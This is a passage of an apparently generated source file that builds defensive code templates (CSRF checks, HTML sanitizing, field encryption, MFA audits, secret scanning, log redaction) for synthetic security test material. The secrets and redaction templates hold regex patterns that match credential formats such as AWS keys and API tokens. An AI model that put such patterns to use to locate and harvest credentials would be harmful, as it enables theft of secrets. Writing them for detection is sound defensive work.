    private static readonly HashSet<string> RegulatedClasses = new(StringComparer.OrdinalIgnoreCase)
    {
        "pii", "payment", "health", "credentials",
    };

    /// <summary>"event:data_class" -> whether the incident starts the notification clock.</summary>
    public static bool RequiresNotification(string eventAndClass)
    {
        var parts = eventAndClass.Split(':', 2);
        return parts.Length == 2 && RegulatedClasses.Contains(parts[1]);
    }

    public static IReadOnlyList<Deadline> DeadlinesFor(Incident incident)
    {
        if (!RequiresNotification($"{incident.Event}:{incident.Data}"))
            return Array.Empty<Deadline>();
        // The clock starts at awareness (confirmation), but never later than
        // 24 hours after detection: a slow triage must not stall it.
        var aware = incident.ConfirmedAt ?? incident.DetectedAt;
        if (aware > incident.DetectedAt.AddHours(24))
            aware = incident.DetectedAt.AddHours(24);
        return new List<Deadline>
        {
            new("Marketplace security team", aware.AddHours(24)),
            new("Lead supervisory authority", aware.AddHours(72)),
            new("Affected customers", aware.AddHours(72)),
        }.OrderBy(d => d.Due).ToList();
    }

    public static string Summary(Incident incident) =>
        string.Join(Environment.NewLine, DeadlinesFor(incident).Select(d => $"{d.Audience}: {d.Due:yyyy-MM-dd HH:mm} UTC"));

    {{VECTORS}}
}
)~"},
{Csrf, Lang::Python, u"csrf_middleware.py", u"requires_token", uR"~("""CSRF protection for the {{APP}} JSON API.

Django's CsrfViewMiddleware covers the server-rendered pages. The single-page
app calls /api/ with the session cookie, so the API needs the same check: this
middleware requires the X-CSRFToken header on unsafe methods and refuses
cross-site requests by Sec-Fetch-Site / Origin before any view runs.
Owner: {{PARTNER}} AppSec.
"""
from __future__ import annotations

import logging

from django.conf import settings
from django.http import HttpRequest, HttpResponse, JsonResponse
from django.middleware.csrf import CsrfViewMiddleware

logger = logging.getLogger("{{IDENT}}.security.csrf")

SAFE_METHODS = frozenset({"GET", "HEAD", "OPTIONS", "TRACE"})

# Webhooks authenticate with an HMAC signature and SCIM with a bearer token,
# not with the session cookie, so CSRF does not apply; nothing else is exempt.
EXEMPT_PREFIXES = ("/webhooks/stripe", "/webhooks/github", "/scim/v2/")


def requires_token(request_line: str) -> bool:
    """'METHOD /path' -> True when the request must carry a valid CSRF token."""
    method, _, path = request_line.partition(" ")
    if method.upper() in SAFE_METHODS:
        return False
    return not path.startswith(EXEMPT_PREFIXES)


class ApiCsrfMiddleware(CsrfViewMiddleware):
    """Django's token check for every unsafe request, plus Fetch Metadata."""

    def process_view(self, request: HttpRequest, callback, callback_args, callback_kwargs):
        if not requires_token(f"{request.method} {request.path}"):
            return None
        site = request.headers.get("Sec-Fetch-Site")
        if site is not None and site not in ("same-origin", "none"):
            return self._reject(request, f"cross-site request (Sec-Fetch-Site: {site})")
        origin = request.headers.get("Origin")
        if origin is not None and origin not in settings.CSRF_TRUSTED_ORIGINS:
            return self._reject(request, f"untrusted Origin {origin}")
        # Exemptions live above; a stray @csrf_exempt on a view is ignored.
        callback = getattr(callback, "__wrapped__", callback)
        return super().process_view(request, callback, callback_args, callback_kwargs)

    def _reject(self, request: HttpRequest, reason: str) -> HttpResponse:
        logger.warning(
            "csrf rejected %s %s: %s", request.method, request.path, reason,
            extra={"request_id": request.headers.get("X-Request-ID")},
        )
        return JsonResponse({"error": "csrf_failed", "detail": "CSRF verification failed."}, status=403)


# settings.py excerpt, kept here so reviewers see the whole configuration.
CSRF_SETTINGS = {
    "CSRF_COOKIE_SECURE": True,
    "CSRF_COOKIE_HTTPONLY": False,  # the SPA reads it to echo X-CSRFToken
    "CSRF_COOKIE_SAMESITE": "Strict",
    "SESSION_COOKIE_SAMESITE": "Lax",
    "SESSION_COOKIE_SECURE": True,
    "CSRF_TRUSTED_ORIGINS": ["https://{{SLUG}}.example.com", "https://admin.{{SLUG}}.example.com"],
}

{{VECTORS}}
)~"},
{Csrf, Lang::JavaScript, u"csrf.js", u"requiresToken", uR"~(// CSRF protection for the {{APP}} web API (Express).
// Double-submit cookie bound to the session with an HMAC, plus Fetch Metadata
// and Origin checks. Owner: {{PARTNER}} AppSec.
'use strict';

const crypto = require('node:crypto');

const SAFE_METHODS = new Set(['GET', 'HEAD', 'OPTIONS', 'TRACE']);
// Webhooks authenticate with signatures, SCIM with bearer tokens: no cookies, no CSRF.
const EXEMPT_PREFIXES = ['/webhooks/stripe', '/webhooks/github', '/scim/v2/'];
const TRUSTED_ORIGINS = new Set(['https://{{SLUG}}.example.com', 'https://admin.{{SLUG}}.example.com']);
const COOKIE = '__Host-csrf';

function requiresToken(requestLine) {
  const [method, path = ''] = requestLine.split(' ', 2);
  if (SAFE_METHODS.has(method.toUpperCase())) return false;
  return !EXEMPT_PREFIXES.some((prefix) => path.startsWith(prefix));
}

function tokenFor(sessionId, secret) {
  const nonce = crypto.randomBytes(16).toString('base64url');
  const mac = crypto.createHmac('sha256', secret).update(`${sessionId}.${nonce}`).digest('base64url');
  return `${nonce}.${mac}`;
}

function tokenValid(token, sessionId, secret) {
  if (typeof token !== 'string') return false;
  const [nonce, mac] = token.split('.');
  if (!nonce || !mac) return false;
  const expected = crypto.createHmac('sha256', secret).update(`${sessionId}.${nonce}`).digest();
  const given = Buffer.from(mac, 'base64url');
  // timingSafeEqual throws on different lengths, so compare those first.
  return given.length === expected.length && crypto.timingSafeEqual(given, expected);
}

function csrfProtection({ secret, logger }) {
  return function csrf(req, res, next) {
    if (!req.cookies[COOKIE] && req.session) {
      res.cookie(COOKIE, tokenFor(req.session.id, secret), { secure: true, sameSite: 'strict', path: '/' });
    }
    if (!requiresToken(`${req.method} ${req.path}`)) return next();
    const site = req.get('Sec-Fetch-Site');
    const origin = req.get('Origin');
    const header = req.get('X-CSRF-Token');
    const reason =
      (site && site !== 'same-origin' && site !== 'none' && `cross-site (${site})`) ||
      (origin && !TRUSTED_ORIGINS.has(origin) && `untrusted origin ${origin}`) ||
      (!req.session && 'no session') ||
      (header !== req.cookies[COOKIE] && 'token mismatch') ||
      (!tokenValid(header, req.session.id, secret) && 'invalid token');
    if (reason) {
      logger.warn({ requestId: req.id, method: req.method, path: req.path, reason }, 'csrf rejected');
      return res.status(403).json({ error: 'csrf_failed' });
    }
    return next();
  };
}

{{VECTORS}}

module.exports = { csrfProtection, requiresToken, tokenFor, selfCheck };
)~"},
{Csrf, Lang::Java, u"SecurityConfig.java", u"requiresToken", uR"~(// {{APP}} - Spring Security configuration: CSRF protection for cookie sessions.
// Owner: {{PARTNER}} AppSec.
package com.{{IDENT}}.config;

import java.util.List;
import java.util.Locale;
import java.util.Set;
import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Configuration;
import org.springframework.security.config.annotation.web.builders.HttpSecurity;
import org.springframework.security.web.SecurityFilterChain;
import org.springframework.security.web.csrf.CookieCsrfTokenRepository;
import org.springframework.security.web.csrf.CsrfTokenRequestAttributeHandler;
import org.springframework.security.web.util.matcher.RequestMatcher;

@Configuration
public class SecurityConfig {
    private static final Set<String> SAFE_METHODS = Set.of("GET", "HEAD", "OPTIONS", "TRACE");
    // Webhooks are HMAC-signed and SCIM uses bearer tokens: neither sends cookies.
    private static final List<String> EXEMPT_PREFIXES = List.of("/webhooks/stripe", "/webhooks/github", "/scim/v2/");

    @Bean
    SecurityFilterChain filterChain(HttpSecurity http) throws Exception {
        CookieCsrfTokenRepository tokens = CookieCsrfTokenRepository.withHttpOnlyFalse();
        tokens.setCookieCustomizer(c -> c.secure(true).sameSite("Strict").path("/"));
        RequestMatcher needsToken = request -> requiresToken(request.getMethod() + " " + request.getRequestURI());
        http
            .csrf(csrf -> csrf
                .csrfTokenRepository(tokens)
                .csrfTokenRequestHandler(new CsrfTokenRequestAttributeHandler())
                .requireCsrfProtectionMatcher(needsToken))
            .headers(h -> h
                .frameOptions(f -> f.deny())
                .contentSecurityPolicy(csp -> csp.policyDirectives("default-src 'self'; frame-ancestors 'none'; form-action 'self'")))
            .sessionManagement(s -> s.sessionFixation(f -> f.changeSessionId()))
            .authorizeHttpRequests(a -> a
                .requestMatchers("/healthz", "/webhooks/**").permitAll()
                .anyRequest().authenticated());
        return http.build();
    }

    /** "METHOD /path" -> whether the request must carry a valid CSRF token. */
    static boolean requiresToken(String requestLine) {
        int space = requestLine.indexOf(' ');
        String method = space < 0 ? requestLine : requestLine.substring(0, space);
        String path = space < 0 ? "" : requestLine.substring(space + 1);
        if (SAFE_METHODS.contains(method.toUpperCase(Locale.ROOT))) {
            return false;
        }
        return EXEMPT_PREFIXES.stream().noneMatch(path::startsWith);
    }

    {{VECTORS}}
}
)~"},
{Xss, Lang::JavaScript, u"render-safety.js", u"survivesSanitizer", uR"~(// Output encoding and sanitization for {{APP}} server-rendered views.
// Secure Coding Standard, section 4: everything is escaped by default; rich
// text from customers goes through DOMPurify with an allow-list.
// Owner: {{PARTNER}} AppSec.
'use strict';

const createDOMPurify = require('dompurify');
const { JSDOM } = require('jsdom');

const { window } = new JSDOM('');
const DOMPurify = createDOMPurify(window);

const RICH_TEXT = {
  ALLOWED_TAGS: ['b', 'i', 'em', 'strong', 'a', 'p', 'ul', 'ol', 'li', 'br', 'code', 'pre', 'blockquote'],
  ALLOWED_ATTR: ['href', 'title'],
  ALLOWED_URI_REGEXP: /^(?:https?:|mailto:|\/(?!\/))/i,
  FORBID_ATTR: ['style'],
};

DOMPurify.addHook('afterSanitizeAttributes', (node) => {
  if (node.tagName === 'A') {
    node.setAttribute('rel', 'noopener noreferrer nofollow');
  }
});

const HTML_ESCAPES = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;', '`': '&#96;' };

function escapeHtml(value) {
  return String(value).replace(/[&<>"'`]/g, (ch) => HTML_ESCAPES[ch]);
}

// Data placed inside <script type="application/json"> must not close the tag.
function jsonForScript(value) {
  return JSON.stringify(value).replace(/</g, '\\u003c').replace(/\u2028/g, '\\u2028').replace(/\u2029/g, '\\u2029');
}

function sanitizeRichText(html) {
  return DOMPurify.sanitize(String(html), RICH_TEXT);
}

// True when the sanitizer leaves the input unchanged (plain text or allowed markup).
function survivesSanitizer(input) {
  return sanitizeRichText(input) === input;
}

function securityHeaders(req, res, next) {
  const nonce = res.locals.cspNonce;
  res.set(
    'Content-Security-Policy',
    `default-src 'self'; script-src 'nonce-${nonce}' 'strict-dynamic'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'`,
  );
  res.set('X-Content-Type-Options', 'nosniff');
  next();
}

{{VECTORS}}

module.exports = { escapeHtml, jsonForScript, sanitizeRichText, survivesSanitizer, securityHeaders, selfCheck };
)~"},
{Xss, Lang::Php, u"OutputEncoder.php", u"self::survivesSanitizer", uR"~(<?php
// {{APP}} - output encoding helpers used by every template.
// Owner: {{PARTNER}} AppSec. Context matters: HTML body, attribute, URL and
// JavaScript values are encoded differently; customer rich text is purified.

declare(strict_types=1);

namespace {{CLASS}}\Security;

use HTMLPurifier;
use HTMLPurifier_Config;

final class OutputEncoder
{
    private static ?HTMLPurifier $purifier = null;

    public static function html(?string $value): string
    {
        return htmlspecialchars($value ?? '', ENT_QUOTES | ENT_SUBSTITUTE | ENT_HTML5, 'UTF-8');
    }

    public static function attr(?string $value): string
    {
        return self::html($value);
    }

    public static function url(string $value): string
    {
        $scheme = strtolower((string) parse_url($value, PHP_URL_SCHEME));
        if ($scheme !== '' && !in_array($scheme, ['http', 'https', 'mailto'], true)) {
            return '#';
        }
        return self::html($value);
    }

    public static function js(mixed $value): string
    {
        return json_encode($value, JSON_HEX_TAG | JSON_HEX_AMP | JSON_HEX_APOS | JSON_HEX_QUOT | JSON_THROW_ON_ERROR);
    }

    public static function richText(string $html): string
    {
        if (self::$purifier === null) {
            $config = HTMLPurifier_Config::createDefault();
            $config->set('HTML.Allowed', 'p,br,b,strong,i,em,ul,ol,li,code,pre,blockquote,a[href|title]');
            $config->set('URI.AllowedSchemes', ['http' => true, 'https' => true, 'mailto' => true]);
            $config->set('Cache.SerializerPath', sys_get_temp_dir());
            self::$purifier = new HTMLPurifier($config);
        }
        return self::$purifier->purify($html);
    }

    /** True when the purifier leaves the input unchanged. */
    public static function survivesSanitizer(string $input): bool
    {
        return self::richText($input) === $input;
    }

    {{VECTORS}}
}
)~"},
{CustomerData, Lang::Java, u"EncryptedStringConverter.java", u"mustEncrypt", uR"~(// {{APP}} - field-level encryption for customer data columns.
// Owner: {{PARTNER}} platform security. Data keys come from KMS (envelope
// encryption); the database only ever sees AES-256-GCM ciphertext.
package com.{{IDENT}}.persistence.crypto;

import jakarta.persistence.AttributeConverter;
import jakarta.persistence.Converter;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.SecureRandom;
import java.util.Base64;
import java.util.Locale;
import java.util.Set;
import javax.crypto.Cipher;
import javax.crypto.SecretKey;
import javax.crypto.spec.GCMParameterSpec;

@Converter
public class EncryptedStringConverter implements AttributeConverter<String, String> {
    private static final String PREFIX = "enc:v1:";
    private static final int IV_BYTES = 12;
    private static final int TAG_BITS = 128;
    private static final SecureRandom RANDOM = new SecureRandom();

    // Columns holding customer personal data must use this converter;
    // SchemaAudit fails the build when one is mapped without it.
    static final Set<String> ENCRYPTED_FIELDS = Set.of(
        "email", "phone", "date_of_birth", "tax_id", "iban", "street_address", "ip_address", "national_id");

    private final DataKeyProvider keys;

    public EncryptedStringConverter(DataKeyProvider keys) {
        this.keys = keys;
    }

    static boolean mustEncrypt(String column) {
        return ENCRYPTED_FIELDS.contains(column.toLowerCase(Locale.ROOT));
    }

    @Override
    public String convertToDatabaseColumn(String plaintext) {
        if (plaintext == null) {
            return null;
        }
        try {
            byte[] iv = new byte[IV_BYTES];
            RANDOM.nextBytes(iv);
            Cipher cipher = Cipher.getInstance("AES/GCM/NoPadding");
            cipher.init(Cipher.ENCRYPT_MODE, keys.current(), new GCMParameterSpec(TAG_BITS, iv));
            // The key id as associated data: a ciphertext cannot be replayed under another key.
            cipher.updateAAD(keys.currentId().getBytes(StandardCharsets.UTF_8));
            byte[] ct = cipher.doFinal(plaintext.getBytes(StandardCharsets.UTF_8));
            ByteBuffer out = ByteBuffer.allocate(iv.length + ct.length).put(iv).put(ct);
            return PREFIX + keys.currentId() + ":" + Base64.getEncoder().encodeToString(out.array());
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException("field encryption failed", e);
        }
    }

    @Override
    public String convertToEntityAttribute(String stored) {
        if (stored == null) {
            return null;
        }
        if (!stored.startsWith(PREFIX)) {
            throw new IllegalStateException("unencrypted value in an encrypted column");
        }
        String[] parts = stored.substring(PREFIX.length()).split(":", 2);
        try {
            SecretKey key = keys.byId(parts[0]);
            ByteBuffer in = ByteBuffer.wrap(Base64.getDecoder().decode(parts[1]));
            byte[] iv = new byte[IV_BYTES];
            in.get(iv);
            byte[] ct = new byte[in.remaining()];
            in.get(ct);
            Cipher cipher = Cipher.getInstance("AES/GCM/NoPadding");
            cipher.init(Cipher.DECRYPT_MODE, key, new GCMParameterSpec(TAG_BITS, iv));
            cipher.updateAAD(parts[0].getBytes(StandardCharsets.UTF_8));
            return new String(cipher.doFinal(ct), StandardCharsets.UTF_8);
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException("field decryption failed", e);
        }
    }

    {{VECTORS}}
}
)~"},
{CustomerData, Lang::Python, u"field_crypto.py", u"must_encrypt", uR"~("""Field-level encryption for {{APP}} customer records.

Envelope encryption: a data key from AWS KMS encrypts fields with AES-256-GCM;
only the KMS-wrapped data key is stored. Owner: {{PARTNER}} platform security.
"""
from __future__ import annotations

import base64
import os
from dataclasses import dataclass
from functools import lru_cache

import boto3
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

KMS_KEY_ID = os.environ.get("FIELD_KMS_KEY_ID", "alias/{{SLUG}}-customer-data")
PREFIX = "enc:v1:"

ENCRYPTED_FIELDS = frozenset({
    "email", "phone", "date_of_birth", "tax_id", "iban", "street_address", "ip_address", "national_id",
})


def must_encrypt(field: str) -> bool:
    return field.lower() in ENCRYPTED_FIELDS


@dataclass(frozen=True)
class DataKey:
    plaintext: bytes
    wrapped: bytes


@lru_cache(maxsize=1)
def _kms():
    return boto3.client("kms")


def new_data_key() -> DataKey:
    response = _kms().generate_data_key(KeyId=KMS_KEY_ID, KeySpec="AES_256")
    return DataKey(response["Plaintext"], response["CiphertextBlob"])


@lru_cache(maxsize=64)
def _unwrap(wrapped: bytes) -> bytes:
    return _kms().decrypt(CiphertextBlob=wrapped, KeyId=KMS_KEY_ID)["Plaintext"]


def encrypt_field(key: DataKey, record_id: str, field: str, value: str) -> str:
    nonce = os.urandom(12)
    # Record id and field name as associated data: someone with database
    # access cannot swap ciphertexts between rows or columns.
    aad = f"{record_id}:{field}".encode()
    ciphertext = AESGCM(key.plaintext).encrypt(nonce, value.encode("utf-8"), aad)
    wrapped = base64.b64encode(key.wrapped).decode()
    return f"{PREFIX}{wrapped}:{base64.b64encode(nonce + ciphertext).decode()}"


def decrypt_field(record_id: str, field: str, stored: str) -> str:
    if not stored.startswith(PREFIX):
        raise ValueError(f"{field} of {record_id} is not encrypted")
    wrapped_b64, blob_b64 = stored[len(PREFIX):].split(":", 1)
    blob = base64.b64decode(blob_b64)
    key = _unwrap(base64.b64decode(wrapped_b64))
    return AESGCM(key).decrypt(blob[:12], blob[12:], f"{record_id}:{field}".encode()).decode("utf-8")


def protect_record(record: dict[str, object], record_id: str) -> dict[str, object]:
    key = new_data_key()
    return {
        name: encrypt_field(key, record_id, name, str(value)) if must_encrypt(name) and value is not None else value
        for name, value in record.items()
    }


{{VECTORS}}
)~"},
{EmployeeMfa, Lang::JavaScript, u"mfa-audit.js", u"satisfiesMfa", uR"~(#!/usr/bin/env node
// Nightly MFA posture audit for {{PARTNER}} staff with access to {{APP}}.
// Reads users and enrolled factors from the identity provider and fails when
// an active account can sign in without a strong second factor.
'use strict';

const IDP = process.env.IDP_ORG_URL; // configured per environment, never hard-coded
const TOKEN = process.env.IDP_API_TOKEN; // read-only token injected from the secrets manager

// RFC 8176 authentication method references that count as a second factor.
// sms and tel are deliberately absent: the MFA policy does not allow them.
const STRONG = new Set(['hwk', 'swk', 'otp', 'sc', 'pop']);

const FACTOR_AMR = {
  webauthn: 'hwk',
  'token:software:totp': 'otp',
  'token:hardware': 'hwk',
  push: 'swk',
  sms: 'sms',
  call: 'tel',
  email: 'email',
};

function satisfiesMfa(amrClaim) {
  return amrClaim
    .replace(/^amr=/, '')
    .split(',')
    .map((m) => m.trim().toLowerCase())
    .some((m) => STRONG.has(m));
}

async function idp(path) {
  const response = await fetch(new URL(path, IDP), {
    headers: { Authorization: `SSWS ${TOKEN}`, Accept: 'application/json' },
  });
  if (!response.ok) throw new Error(`${path}: HTTP ${response.status}`);
  return response.json();
}

async function audit() {
  const users = await idp('/api/v1/users?search=status+eq+%22ACTIVE%22&limit=200');
  const findings = [];
  for (const user of users) {
    const factors = await idp(`/api/v1/users/${encodeURIComponent(user.id)}/factors`);
    const active = factors.filter((f) => f.status === 'ACTIVE').map((f) => FACTOR_AMR[f.factorType] ?? 'unknown');
    if (!satisfiesMfa(['pwd', ...active].join(','))) {
      findings.push({ login: user.profile.login, factors: active });
    }
  }
  return findings;
}

{{VECTORS}}

selfCheck();
audit()
  .then((findings) => {
    for (const f of findings) console.error(`NO STRONG MFA ${f.login} factors=${f.factors.join('|') || 'none'}`);
    console.log(`${findings.length} account(s) without a strong second factor`);
    process.exitCode = findings.length > 0 ? 1 : 0;
  })
  .catch((err) => {
    console.error(err);
    process.exitCode = 2;
  });
)~"},
{EmployeeMfa, Lang::Go, u"require_mfa.go", u"SatisfiesMFA", uR"~(// Package authz enforces MFA for {{PARTNER}} staff on the {{APP}} admin console.
// The identity provider asserts how the user signed in (the "amr" claim,
// RFC 8176); the console refuses sessions without a strong second factor and
// asks for step-up when the last MFA is older than MaxMFAAge.
package authz

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"time"
)

// MaxMFAAge bounds how long privileged actions may rely on one MFA prompt.
const MaxMFAAge = 12 * time.Hour

// sms and tel are not listed: the MFA policy does not accept them.
var strongMethods = map[string]bool{"hwk": true, "swk": true, "otp": true, "sc": true, "pop": true}

// Claims are the verified ID token claims the session middleware stores.
type Claims struct {
	Subject  string
	Email    string
	AMR      []string
	AuthTime time.Time
	Groups   []string
}

type claimsKey struct{}

// SatisfiesMFA reports whether an amr claim ("amr=pwd,otp") shows a strong factor.
func SatisfiesMFA(amr string) bool {
	for _, m := range strings.Split(strings.TrimPrefix(amr, "amr="), ",") {
		if strongMethods[strings.ToLower(strings.TrimSpace(m))] {
			return true
		}
	}
	return false
}

// RequireMFA wraps the admin handlers.
func RequireMFA(next http.Handler, loginURL string, now func() time.Time) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c, ok := r.Context().Value(claimsKey{}).(*Claims)
		if !ok {
			http.Redirect(w, r, loginURL, http.StatusFound)
			return
		}
		if !SatisfiesMFA(strings.Join(c.AMR, ",")) {
			http.Error(w, "multi-factor authentication required", http.StatusForbidden)
			return
		}
		if now().Sub(c.AuthTime) > MaxMFAAge {
			// max_age=0 makes the identity provider prompt again.
			q := url.Values{"prompt": {"login"}, "max_age": {"0"}, "acr_values": {"phr"}, "return_to": {r.URL.RequestURI()}}
			http.Redirect(w, r, loginURL+"?"+q.Encode(), http.StatusFound)
			return
		}
		next.ServeHTTP(w, r)
	})
}

{{VECTORS}}
)~"},
{Secrets, Lang::Go, u"secrets.go", u"LooksLikeSecret", uR"~(// Package secrets loads {{APP}}'s credentials at startup from AWS Secrets
// Manager. Nothing secret lives in the repository, the image or environment
// variables; ScanEnvironment refuses to boot if it finds one there.
// Owner: {{PARTNER}} platform security.
package secrets

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"regexp"
	"strings"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/secretsmanager"
)

// Config holds what the service needs; it is never logged or serialized.
type Config struct {
	DatabaseURL   string `json:"database_url"`
	StripeKey     string `json:"stripe_key"`
	SigningKeyPEM string `json:"signing_key_pem"`
}

// String keeps secrets out of logs even when a Config is printed by mistake.
func (Config) String() string { return "secrets.Config{redacted}" }

var secretPatterns = []*regexp.Regexp{
	regexp.MustCompile(`AKIA[0-9A-Z]{16}`),
	regexp.MustCompile(`gh[pousr]_[A-Za-z0-9]{36}`),
	regexp.MustCompile(`sk_(live|test)_[0-9a-zA-Z]{24,}`),
	regexp.MustCompile(`xox[baprs]-[0-9A-Za-z-]{10,}`),
	regexp.MustCompile(`-----BEGIN [A-Z ]*PRIVATE KEY-----`),
	regexp.MustCompile(`(?i)(password|passwd|secret|api_key)=[^&\s]{8,}`),
}

// LooksLikeSecret reports whether a value matches a known credential format.
func LooksLikeSecret(value string) bool {
	for _, p := range secretPatterns {
		if p.MatchString(value) {
			return true
		}
	}
	return false
}

// Load fetches the secret named by SECRET_ID (an ARN, not a value).
func Load(ctx context.Context, client *secretsmanager.Client) (*Config, error) {
	id := os.Getenv("SECRET_ID")
	if id == "" {
		return nil, fmt.Errorf("secrets: SECRET_ID not set")
	}
	out, err := client.GetSecretValue(ctx, &secretsmanager.GetSecretValueInput{SecretId: aws.String(id)})
	if err != nil {
		return nil, fmt.Errorf("secrets: get %s: %w", id, err)
	}
	var cfg Config
	if err := json.Unmarshal([]byte(aws.ToString(out.SecretString)), &cfg); err != nil {
		return nil, fmt.Errorf("secrets: decode %s: %w", id, err)
	}
	return &cfg, nil
}

// ScanEnvironment refuses to start when a credential was passed in an env var.
func ScanEnvironment() error {
	for _, kv := range os.Environ() {
		name, value, _ := strings.Cut(kv, "=")
		if LooksLikeSecret(value) {
			return fmt.Errorf("secrets: environment variable %s holds a credential; use Secrets Manager", name)
		}
	}
	return nil
}

{{VECTORS}}
)~"},
{Secrets, Lang::Python, u"log_redaction.py", u"contains_sensitive", uR"~("""Log redaction for {{APP}}: secrets and personal data never reach log storage.

Attached to the root logger of every service (see logging.yaml).
Owner: {{PARTNER}} platform security.
"""
from __future__ import annotations

import logging
import re

PATTERNS: list[tuple[str, re.Pattern[str]]] = [
    ("aws_access_key", re.compile(r"AKIA[0-9A-Z]{16}")),
    ("github_token", re.compile(r"gh[pousr]_[A-Za-z0-9]{36}")),
    ("stripe_key", re.compile(r"sk_(?:live|test)_[0-9a-zA-Z]{24,}")),
    ("slack_token", re.compile(r"xox[baprs]-[0-9A-Za-z-]{10,}")),
    ("private_key", re.compile(r"-----BEGIN [A-Z ]*PRIVATE KEY-----")),
    ("credential_param", re.compile(r"(?i)(?:password|passwd|secret|api_key)=[^&\s]{8,}")),
    ("email", re.compile(r"[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,}")),
    ("card_number", re.compile(r"\b(?:\d[ -]?){13,19}\b")),
]


def contains_sensitive(text: str) -> bool:
    return any(pattern.search(text) for _, pattern in PATTERNS)


def redact(text: str) -> str:
    for name, pattern in PATTERNS:
        text = pattern.sub(f"[REDACTED:{name}]", text)
    return text


class RedactingFilter(logging.Filter):
    """Redacts the message and the string arguments of every record."""

    def filter(self, record: logging.LogRecord) -> bool:
        record.msg = redact(str(record.msg))
        if isinstance(record.args, dict):
            record.args = {k: redact(v) if isinstance(v, str) else v for k, v in record.args.items()}
        elif record.args:
            record.args = tuple(redact(a) if isinstance(a, str) else a for a in record.args)
        return True


def install(logger: logging.Logger | None = None) -> None:
    target = logger or logging.getLogger()
    # On the handlers too: records from child loggers skip the parent's filters.
    for handler in target.handlers:
        handler.addFilter(RedactingFilter())
    target.addFilter(RedactingFilter())


{{VECTORS}}
)~"},
{MassAssignment, Lang::Ruby, u"users_controller.rb", u"permitted?", uR"~(# frozen_string_literal: true

# {{APP}} - account API. Mass assignment is prevented with an explicit
# allow-list per action (strong parameters); unpermitted keys raise in every
# environment so a new column never becomes writable by accident.
# Owner: {{PARTNER}} AppSec.
module Api
  module V2
    class UsersController < ApplicationController
      before_action :authenticate_user!
      before_action :set_user, only: %i[show update]

      PERMITTED = %i[name display_name locale time_zone avatar_url phone notification_email].freeze
      # Never writable through this API, whatever the caller's role.
      PROTECTED = %i[id role admin is_admin tenant_id account_id owner_id email_verified confirmed_at
                     created_at updated_at password_digest].freeze

      def self.permitted?(param)
        PERMITTED.include?(param.to_s.to_sym)
      end

      def show
        render json: UserSerializer.new(@user)
      end

      def update
        authorize @user
        if @user.update(user_params)
          render json: UserSerializer.new(@user)
        else
          render json: { errors: @user.errors.full_messages }, status: :unprocessable_entity
        end
      end

      private

      def set_user
        # Scoped to the caller's account: another tenant's id is a 404.
        @user = current_account.users.find(params[:id])
      end

      def user_params
        params.require(:user).permit(*PERMITTED)
      end

      {{VECTORS}}
    end
  end
end

# config/initializers/strong_parameters.rb:
#   Rails.application.config.action_controller.action_on_unpermitted_parameters = :raise
)~"},
{MassAssignment, Lang::CSharp, u"UsersController.cs", u"IsPermitted", uR"~(// {{APP}} - account API (ASP.NET Core). Requests bind to dedicated input
// records, never to the EF entity, so columns such as Role or TenantId cannot
// be set by a caller. Unknown JSON properties are rejected (see Program.cs).
// Owner: {{PARTNER}} AppSec.
using System;
using System.Collections.Generic;
using System.ComponentModel.DataAnnotations;
using System.Linq;
using System.Reflection;
using System.Threading.Tasks;
using Microsoft.AspNetCore.Authorization;
using Microsoft.AspNetCore.Mvc;
using Microsoft.EntityFrameworkCore;

namespace {{CLASS}}.Api.Controllers;

public sealed record UpdateUserRequest(
    [property: StringLength(120)] string? Name,
    [property: StringLength(60)] string? DisplayName,
    [property: RegularExpression("^[a-z]{2}(-[A-Z]{2})?$")] string? Locale,
    string? TimeZone,
    [property: Url] string? AvatarUrl,
    [property: Phone] string? Phone,
    [property: EmailAddress] string? NotificationEmail);

[ApiController]
[Authorize]
[Route("api/v2/users")]
public sealed class UsersController : ControllerBase
{
    private static readonly HashSet<string> Permitted = typeof(UpdateUserRequest)
        .GetProperties(BindingFlags.Public | BindingFlags.Instance)
        .Select(p => ToSnakeCase(p.Name))
        .ToHashSet(StringComparer.OrdinalIgnoreCase);

    private readonly AppDbContext _db;
    private readonly ICurrentTenant _tenant;

    public UsersController(AppDbContext db, ICurrentTenant tenant) => (_db, _tenant) = (db, tenant);

    public static bool IsPermitted(string parameter) => Permitted.Contains(parameter);

    [HttpPatch("{id:guid}")]
    public async Task<IActionResult> Update(Guid id, [FromBody] UpdateUserRequest input)
    {
        var user = await _db.Users.SingleOrDefaultAsync(u => u.Id == id && u.TenantId == _tenant.Id);
        if (user is null)
            return NotFound();
        // Field by field: the entity's Role, TenantId and IsAdmin are unreachable from here.
        user.Name = input.Name ?? user.Name;
        user.DisplayName = input.DisplayName ?? user.DisplayName;
        user.Locale = input.Locale ?? user.Locale;
        user.TimeZone = input.TimeZone ?? user.TimeZone;
        user.AvatarUrl = input.AvatarUrl ?? user.AvatarUrl;
        user.Phone = input.Phone ?? user.Phone;
        user.NotificationEmail = input.NotificationEmail ?? user.NotificationEmail;
        await _db.SaveChangesAsync();
        return Ok(UserDto.From(user));
    }

    private static string ToSnakeCase(string name) =>
        string.Concat(name.Select((c, i) => i > 0 && char.IsUpper(c) ? "_" + char.ToLowerInvariant(c) : char.ToLowerInvariant(c).ToString()));

    // Program.cs: builder.Services.AddControllers().AddJsonOptions(o =>
    //     o.JsonSerializerOptions.UnmappedMemberHandling = JsonUnmappedMemberHandling.Disallow);

    {{VECTORS}}
}
)~"},
{TrustedRedirects, Lang::CSharp, u"RedirectValidator.cs", u"IsTrustedRedirect", uR"~(// {{APP}} - post-login and "return to" redirects go only to our own origins.
// Owner: {{PARTNER}} AppSec.
using System;
using System.Collections.Generic;
using Microsoft.AspNetCore.Mvc;
using Microsoft.Extensions.Logging;

namespace {{CLASS}}.Web.Security;

public static class RedirectValidator
{
